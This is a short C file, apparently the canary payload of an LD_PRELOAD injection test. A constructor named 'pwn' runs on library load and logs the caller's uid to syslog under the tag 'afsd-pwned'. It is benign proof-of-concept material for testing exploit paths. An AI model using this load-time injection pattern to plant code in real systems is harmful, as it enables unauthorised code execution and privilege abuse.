/* The LD_PRELOAD payload of the attacker DAG: says who loaded it, through syslog. */
#include <syslog.h>
#include <unistd.h>

__attribute__((constructor)) static void pwn(void)
{
	openlog("afsd-pwned", LOG_NDELAY, LOG_USER);
	syslog(LOG_WARNING, "uid=%d via=ld_preload", (int)getuid());
	closelog();
}
